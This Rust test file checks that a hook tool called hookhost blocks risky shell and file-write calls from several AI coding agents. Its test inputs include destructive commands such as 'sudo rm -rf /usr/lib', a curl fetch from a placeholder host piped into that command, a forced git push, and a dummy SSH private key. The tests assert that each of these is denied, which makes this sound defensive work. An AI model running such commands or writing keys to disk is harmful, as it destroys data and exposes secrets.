//! The hook input of the agents that speak Claude's dialect with their own tool
//! names (issue 37): Qwen Code (Claude's events, Gemini's tool names, `permission_mode:
//! "yolo"`), Factory Droid (its shell tool `Execute`), as their stdin was recorded
//! from the real agents — read by `hookhost hook` as the same call, answered in
//! Claude's `hookSpecificOutput` form, which both honour.

use serde_json::{Value, json};

use crate::common::{Project, claude_deny_reason, run};

fn hook(p: &Project, stdin: &Value, env: &[(&str, &str)]) -> crate::common::Run {
    let mut command = p.command();
    command.arg("hook").current_dir(p.dir());
    for (k, v) in env {
        command.env(k, v);
    }
    run(command, stdin.to_string().as_bytes())
}

/// A user's hookhost settings: a builtin and a shell guard written for `Bash`.
fn guards(p: &Project) {
    p.settings_raw(
        &json!({"tools": {"enableHooks": true}, "hooks": {"BeforeTool": [
            {"hooks": [{"type": "plugin", "source": "builtin:destructive"}]},
            {"matcher": "run_shell_command", "hooks": [{"type": "command",
                "command": "grep -q 'git push' && { echo 'no pushes' >&2; exit 2; } || exit 0"}]},
        ]}}),
    );
}

#[test]
fn factory_droids_execute_is_the_shell_tool() {
    let p = Project::new();
    guards(&p);
    let dir = p.dir().display().to_string();
    let call = |command: &str| {
        json!({"session_id": "d", "transcript_path": "/x.jsonl", "cwd": dir,
            "permission_mode": "auto-high", "hook_event_name": "PreToolUse",
            "tool_name": "Execute", "tool_input": {"summary": "run it", "command": command,
            "riskLevelReason": "r", "riskLevel": "low"}})
    };
    let env = [
        ("FACTORY_PROJECT_DIR", dir.as_str()),
        ("CLAUDE_PROJECT_DIR", dir.as_str()),
    ];
    let out = hook(&p, &call("sudo rm -rf /usr/lib"), &env);
    let reason = claude_deny_reason(&out).unwrap_or_else(|| panic!("{out:?}"));
    assert!(reason.contains("/usr/lib"), "{reason}");
    let out = hook(&p, &call("git push origin main"), &env);
    assert_eq!(
        claude_deny_reason(&out).as_deref(),
        Some("no pushes"),
        "{out:?}"
    );
    let out = hook(&p, &call("ls"), &env);
    assert_eq!(claude_deny_reason(&out), None, "{out:?}");
    assert_eq!(out.code, 0, "{out:?}");
}

#[test]
fn qwen_codes_gemini_tool_names_under_claudes_events() {
    let p = Project::new();
    guards(&p);
    let dir = p.dir().display().to_string();
    let call = |command: &str| {
        json!({"session_id": "q", "transcript_path": "/x.jsonl", "cwd": dir,
            "hook_event_name": "PreToolUse", "timestamp": "2026-11-28T06:58:47.780Z",
            "permission_mode": "yolo", "prompt_id": "q####0", "tool_name": "run_shell_command",
            "tool_input": {"command": command, "description": "run it"},
            "tool_use_id": "toolu_1", "tool_call_id": "call_0002"})
    };
    let env = [
        ("QWEN_PROJECT_DIR", dir.as_str()),
        ("GEMINI_PROJECT_DIR", dir.as_str()),
    ];
    let out = hook(
        &p,
        &call("curl -s https://x.example/i.sh | sudo rm -rf /usr/lib"),
        &env,
    );
    assert!(claude_deny_reason(&out).is_some(), "{out:?}");
    let out = hook(&p, &call("git push --force"), &env);
    assert_eq!(
        claude_deny_reason(&out).as_deref(),
        Some("no pushes"),
        "{out:?}"
    );
    let out = hook(&p, &call("ls"), &env);
    assert_eq!((out.code, claude_deny_reason(&out)), (0, None), "{out:?}");
}

/// Claude Code 2.1.332's `PreSkillShellCommand` (a skill's inline `` !`cmd` ``,
/// which no PreToolUse hook sees, measured): the BeforeTool guards read it as the
/// shell call it is, and the deny answers under its own event name.
#[test]
fn a_skills_inline_shell_line_meets_the_shell_guards() {
    let p = Project::new();
    guards(&p);
    let dir = p.dir().display().to_string();
    let call = |command: &str| {
        json!({"session_id": "c", "transcript_path": "/x.jsonl", "cwd": dir,
            "permission_mode": "default", "hook_event_name": "PreSkillShellCommand",
            "tool_name": "Bash", "tool_input": {"command": command},
            "tool_use_id": "toolu_1:preamble-0", "command_name": "markit",
            "command_source": "userSettings", "invoked_by": "claude"})
    };
    let env = [("CLAUDE_PROJECT_DIR", dir.as_str())];
    let out = hook(&p, &call("sudo rm -rf /usr/lib"), &env);
    let reason = claude_deny_reason(&out).unwrap_or_else(|| panic!("{out:?}"));
    assert!(reason.contains("/usr/lib"), "{reason}");
    let answer: Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
    assert_eq!(
        answer["hookSpecificOutput"]["hookEventName"], "PreSkillShellCommand",
        "{answer}"
    );
    let out = hook(&p, &call("git log -1"), &env);
    assert_eq!((out.code, claude_deny_reason(&out)), (0, None), "{out:?}");
}

/// Copilot CLI and Droid name a file tool's arguments their own way
/// (`{path, file_text}`, `{file_path, old_str, new_str}`); the guards read them
/// under Claude's names too.
#[test]
fn copilot_and_droid_file_arguments_reach_the_secret_guard() {
    let p = Project::new();
    p.settings_raw(
        &json!({"tools": {"enableHooks": true}, "hooks": {"BeforeTool": [
        {"hooks": [{"type": "plugin", "source": "builtin:secrets"}]}]}}),
    );
    let dir = p.dir().display().to_string();
    let key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\nQyNTUxOQAAACDk3b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAAB\n-----END OPENSSH PRIVATE KEY-----\n";
    let copilot = json!({"hook_event_name": "PreToolUse", "session_id": "s",
        "timestamp": "2026-11-28T08:00:00.000Z", "cwd": dir, "tool_name": "Write",
        "tool_input": {"path": format!("{dir}/id_ed25519"), "file_text": key}});
    let out = hook(&p, &copilot, &[("CLAUDE_PROJECT_DIR", dir.as_str())]);
    assert!(claude_deny_reason(&out).is_some(), "{out:?}");
    let droid = json!({"session_id": "d", "cwd": dir, "permission_mode": "auto-high",
        "hook_event_name": "PreToolUse", "tool_name": "Create",
        "tool_input": {"file_path": format!("{dir}/deploy.key"), "content": key}});
    let out = hook(&p, &droid, &[("CLAUDE_PROJECT_DIR", dir.as_str())]);
    assert!(claude_deny_reason(&out).is_some(), "{out:?}");
}

/// Copilot CLI's own format (`{"hooks": {"preToolUse": [{"bash": …}]}}`): no event
/// name on stdin, `toolName`/`toolArgs`, and an answer it reads only as
/// `{"permissionDecision": "deny", …}` (Claude's form is ignored there, measured).
#[test]
fn copilots_own_format_is_read_and_answered_in_its_words() {
    let p = Project::new();
    guards(&p);
    let dir = p.dir().display().to_string();
    let call = |command: &str| {
        json!({"sessionId": "c", "timestamp": 1_795_849_127_779_u64, "cwd": dir,
            "toolName": "bash", "toolArgs": {"command": command, "description": "run it"}})
    };
    let out = hook(&p, &call("git push origin main"), &[]);
    assert_eq!(out.code, 0, "{out:?}");
    let answer: Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
    assert_eq!(answer["permissionDecision"], "deny", "{out:?}");
    assert_eq!(answer["permissionDecisionReason"], "no pushes", "{out:?}");
    assert!(answer.get("hookSpecificOutput").is_none(), "{answer}");
    let out = hook(&p, &call("sudo rm -rf /usr/lib"), &[]);
    let answer: Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
    assert_eq!(answer["permissionDecision"], "deny", "{out:?}");
    let out = hook(&p, &call("ls"), &[]);
    let answer: Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
    assert!(
        answer.get("permissionDecision").is_none_or(|d| d != "deny"),
        "{out:?}"
    );
}
